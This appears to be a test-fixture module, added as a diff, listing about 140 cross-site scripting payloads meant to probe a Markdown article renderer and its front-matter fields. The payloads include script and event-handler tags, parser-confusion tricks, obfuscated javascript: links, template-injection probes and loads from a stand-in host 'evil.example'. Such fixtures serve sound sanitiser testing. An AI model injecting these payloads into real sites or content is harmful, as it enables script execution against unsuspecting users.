@@ -1,0 +1,181 @@
+"""What an attacker would write: in the body of an article, and in every field of its front matter.
+
+Each tries to open a dialog, to send the reader elsewhere, to ask another host for something or to
+open a window.
+"""
+
+from __future__ import annotations
+
+RUN = "alert(1)"
+IMG = f"<img src=x onerror={RUN}>"
+EVIL = "https://evil.example"
+
+BODIES: dict[str, str] = {
+    # --- elements that run
+    "script": f"<script>{RUN}</script>",
+    "script in a block": f"<div>\n<script>{RUN}</script>\n</div>",
+    "script in capitals": f"<SCRIPT/x>{RUN}</SCRIPT >",
+    "script without an end": f"<script>{RUN}",
+    "script in pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    "script of another host": f"<script src={EVIL}/x.js></script>",
+    "module script": f"<script type=module>{RUN}</script>",
+    "img onerror": IMG,
+    "img onerror without blanks": f'<img/src="x"/onerror={RUN}>',
+    "img onerror over lines": f"<img\nsrc=x\nonerror\n=\n{RUN}>",
+    "img onerror in capitals": f"<IMG SRC=x OnErRoR={RUN}>",
+    "img onerror behind a backquote": f'<img src="x" alt="``" title="`" onerror="{RUN}">',
+    "img without an end": f"<img src=x onerror={RUN} //\n<b>x</b>",
+    "image, which is img": f"<image src=x onerror={RUN}>",
+    "picture source": f"<picture><source srcset=x><img src=x onerror={RUN}></picture>",
+    "svg onload": f"<svg onload={RUN}>",
+    "svg onload behind a slash": f"<svg/onload={RUN}>",
+    "svg script": f"<svg><script>{RUN}</script></svg>",
+    "svg script by entities": "<svg><script>alert&#40;1&#41;</script></svg>",
+    "svg script from data": f'<svg><script href="data:text/javascript,{RUN}"/></svg>',
+    "svg image": f"<svg><image href=x onerror={RUN} /></svg>",
+    "svg foreignObject": f"<svg><foreignObject>{IMG}</foreignObject></svg>",
+    "svg animate": (
+        f'<svg><a><animate attributeName=href values="javascript:{RUN}" /><text y=9>x</text></a>'
+    ),
+    "svg set": f"<svg><set attributeName=onmouseover to={RUN} onbegin={RUN} /></svg>",
+    "svg use": (
+        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
+        f"<image href='x' onerror='{RUN}'/></svg>#x\" /></svg>"
+    ),
+    "svg link": f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
+    "video source": f"<video><source onerror={RUN} src=x></video>",
+    "audio": f"<audio src=x onerror={RUN}>",
+    "video poster": f"<video poster={EVIL}/x.png controls></video>",
+    "details ontoggle": f"<details open ontoggle={RUN}>x</details>",
+    "body onload": f"<body onload={RUN}>",
+    "html attributes": f"<html onfocus={RUN} tabindex=1 autofocus>",
+    "input autofocus": f"<input autofocus onfocus={RUN}>",
+    "select autofocus": f"<select autofocus onfocus={RUN}><option>x</select>",
+    "any element autofocus": f"<p tabindex=1 autofocus onfocus={RUN}>x</p>",
+    "made-up element": f"<x-y tabindex=1 autofocus onfocus={RUN}>x</x-y>",
+    "marquee": f"<marquee onstart={RUN}>x</marquee>",
+    "popover": f"<div popover id=p onbeforetoggle={RUN}>x</div><button popovertarget=p>y</button>",
+    "style with an import": f'<style>@import "{EVIL}/x.css"; body {{ display: none }}</style>',
+    "style attribute": f'<p style="background:url({EVIL}/x)">x</p>',
+    "animation": f'<p style="animation: x 1s" onanimationstart={RUN}>x</p>',
+    "iframe of javascript": f'<iframe src="javascript:parent.{RUN}"></iframe>',
+    "iframe of a text": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    "iframe of another host": f"<iframe src={EVIL}/></iframe>",
+    "object": f'<object data="{EVIL}/x" onerror="{RUN}"></object>',
+    "embed": f'<embed src="{EVIL}/x">',
+    "frameset": f"<frameset onload={RUN}><frame src={EVIL}/></frameset>",
+    "form": f'<form action="{EVIL}/"><button autofocus>x</button></form>',
+    "button with an action": f'<form><button formaction="javascript:{RUN}">x</button></form>',
+    "stylesheet": f'<link rel=stylesheet href="{EVIL}/x.css">',
+    "prefetch": f'<link rel=preload as=image href="{EVIL}/x.png">',
+    "meta refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/">',
+    "meta refresh to data": '<meta http-equiv=refresh content="0;url=data:text/html,x">',
+    "base": f'<base href="{EVIL}/"><img src="x.png" alt="x">',
+    "template with a shadow": f"<div><template shadowrootmode=open>{IMG}</template></div>",
+    "picture of another host": f'<img src="{EVIL}/x.png" alt="x">',
+    "picture of another host in Markdown": f"![x]({EVIL}/x.png)",
+    "pictures of another host": f'<img srcset="{EVIL}/x.png 2x" alt="x">',
+    "background": f"<table background={EVIL}/x.png><tr><td>x</td></tr></table>",
+    # --- parsers that disagree
+    "title in svg": f"<svg><title><style><a title='</style>{IMG}'>",
+    "style in svg": f"<svg><style>{IMG}</style></svg>",
+    "style in math": f"<math><style>{IMG}</style></math>",
+    "math and a table": (
+        "<math><mtext><table><mglyph><style><!--</style>"
+        f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
+    ),
+    "math and forms": (
+        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>"
+    ),
+    "math and annotation": (
+        f'<math><annotation-xml encoding="text/html">{IMG}</annotation-xml></math>'
+    ),
+    "noscript": f'<noscript><p title="</noscript>{IMG}">',
+    "noembed": f'<noembed><p title="</noembed>{IMG}"></noembed>',
+    "xmp": f'<xmp><p title="</xmp>{IMG}"></xmp>',
+    "textarea": f'<textarea><p title="</textarea>{IMG}"></textarea>',
+    "title": f'<title><p title="</title>{IMG}"></title>',
+    "iframe as text": f'<iframe><p title="</iframe>{IMG}"></iframe>',
+    "plaintext": f"<plaintext>{IMG}",
+    "CDATA": f"<![CDATA[>{IMG}]]>",
+    "CDATA in svg": f"<svg><![CDATA[</svg>{IMG}]]></svg>",
+    "processing instruction": f"<?x ?>{IMG}<? ?>",
+    "doctype": f"<!DOCTYPE x>{IMG}",
+    "comment that ends at once": f"<!-->{IMG}-->",
+    "comment that ends oddly": f"<div>\n<!-- --!>{IMG} -->\n</div>",
+    "comment in a comment": f"<!-- <!-- --> {IMG} -->",
+    "comment without an end": f"{IMG}\n\n<!-- <p>",
+    "attribute without an end": f'<div title="{IMG}',
+    "attribute over paragraphs": f"<div title='\n\n<p title='>{IMG}'>",
+    "two attributes of one name": f'<a href="/" href="javascript:{RUN}" title="{IMG}">x</a>',
+    "entities": "&lt;img src=x onerror=alert(1)&gt;",
+    "entities of entities": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
+    "end of the page": f"</div></article></main></body></html>{IMG}",
+    # --- addresses
+    "link": f"[x](javascript:{RUN})",
+    "link in angles": f"[x](<javascript:{RUN}>)",
+    "link by reference": f"[x][y]\n\n[y]: javascript:{RUN}",
+    "autolink": f"<javascript:{RUN}>",
+    "link in capitals": f"[x](JaVaScRiPt:{RUN})",
+    "link by entities": f"[x](&#106;avascript&colon;{RUN})",
+    "link with a tab": f"[x](<java\tscript:{RUN}>)",
+    "link with a tab by entity": f"[x](java&Tab;script:{RUN})",
+    "link with a line by entity": f"[x](java&NewLine;script:{RUN})",
+    "link behind a control character": f"[x](<\x01javascript:{RUN}>)",
+    "link behind a control character by entity": f'<a href="&#1;javascript:{RUN}">x</a>',
+    "link behind a blank": f'<a href="  javascript:{RUN}">x</a>',
+    "link behind an ideographic blank": f"[x](<\u3000javascript:{RUN}>)",
+    "link with a null": f'<a href="java&#0;script:{RUN}">x</a>',
+    "link percent-encoded": f"[x](javascript%3A{RUN})",
+    "link with slashes": f"[x](javascript://%0a{RUN})",
+    "raw link": f'<a href="javascript:{RUN}">x</a>',
+    "raw link without quotes": f"<a href=javascript:{RUN}>x</a>",
+    "raw link by entities": f'<a href="&#x6A&#x61&#x76&#x61script&#58;{RUN}">x</a>',
+    "raw link over lines": f'<a href="java\nscr\nipt:{RUN}">x</a>',
+    "link of vbscript": "[x](vbscript:msgbox)",
+    "link of data": f"[x](data:text/html,<script>{RUN}</script>)",
+    "link of data in base64": "[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXI8L3NjcmlwdD4=)",
+    "link of a drawing": f"[x](data:image/svg+xml,<svg/onload={RUN}>)",
+    "image of javascript": f"![x](javascript:{RUN})",
+    "image of a drawing": "![x](<data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>>)",
+    "srcset of javascript": f'<img srcset="javascript:{RUN} 1x" alt="x">',
+    "ping": f'<a href="/" ping="{EVIL}/">x</a>',
+    "cite": f'<blockquote cite="javascript:{RUN}">x</blockquote>',
+    # --- Markdown's own places
+    "link title": f"[x](/ '\">{IMG}')",
+    "link text": f"[{IMG}](/)",
+    "image text": f'![">{IMG}](x.png)',
+    "image title": f"![x](x.png '\">{IMG}')",
+    "image address": f'![x](<x"onerror="{RUN}>)',
+    "heading": f'## {IMG}\n\n## " onclick="{RUN}',
+    "heading with attributes": f"## x {{onclick={RUN}}}",
+    "fence language": f'```"><img/src=x/onerror={RUN}>\nx\n```',
+    "fence title": f"```python title='\">{IMG}'\nx\n```",
+    "fence caption": f'```text caption="</figcaption>{IMG}" alt="\'>{IMG}"\nx\n```',
+    "fence flag": f'```python onclick="{RUN}" style="x"\nx\n```',
+    "code": f"```html\n</code></pre>{IMG}\n```\n\n`</code>{IMG}`",
+    "footnote label": f'a[^">{IMG}]\n\n[^">{IMG}]: b',
+    "table": f"| {IMG} | `</td>{IMG}` |\n|---|---|\n| </table>{IMG} | x |",
+    "alert": f"> [!NOTE]\n> {IMG}\n\n> [!{IMG}]\n> x",
+    "task": f"- [x] {IMG}\n- [{IMG}] y",
+    "template syntax": "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> {{ self.__init__ }}",
+    "metadata for the search": f'<p data-pagefind-meta="title:{IMG}" data-pagefind-body>x</p>',
+    "an id that the page uses": '<p id="content">x</p><a id="documentElement" name="q">y</a>',
+}
+"""By name: the body of an article, in Markdown."""
+
+FIELDS: dict[str, str] = {
+    "an element": IMG,
+    "an end of attribute": f'">{IMG}',
+    "an end of attribute in single quotes": f"' autofocus onfocus={RUN} x='",
+    "a script in a script": f"</script><script>{RUN}</script>",
+    "a comment in a script": f"<!--<script>{RUN}//-->",
+    "an end of title": f"</title></textarea></style></noscript>{IMG}",
+    "entities": "&lt;img src=x onerror=alert(1)&gt; &quot;&#x22; &amp;lt;",
+    "escapes of JSON": '\\u003cimg src=x onerror=alert(1)\\u003e \\" \\',
+    "template syntax": "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
+    "an address": f"javascript:{RUN}",
+    "ends of other formats": f"]]>{IMG}--><?x ?>",
+    "separators of lines": f"a\u2028{IMG}\u2029b",
+}
+"""By name: what is written in every field of the front matter that a page shows."""
